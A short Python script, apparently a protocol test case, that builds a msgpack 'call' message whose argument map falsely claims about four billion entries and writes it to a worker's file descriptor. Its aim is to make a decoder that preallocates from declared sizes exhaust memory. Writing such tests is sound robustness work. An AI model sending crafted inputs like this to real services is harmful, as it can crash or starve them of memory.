# class: proto
# Calls with a map that claims four billion entries, for a codec that makes room before it looks.
import os
from guest.worker.msgpack import pack
b=b"\x84"+pack({"op":"call","id":9,"function":"budget"})[1:]+pack("arguments")+b"\xdf\xff\xff\xff\xff"
os.write(3,len(b).to_bytes(4,"little")+b)
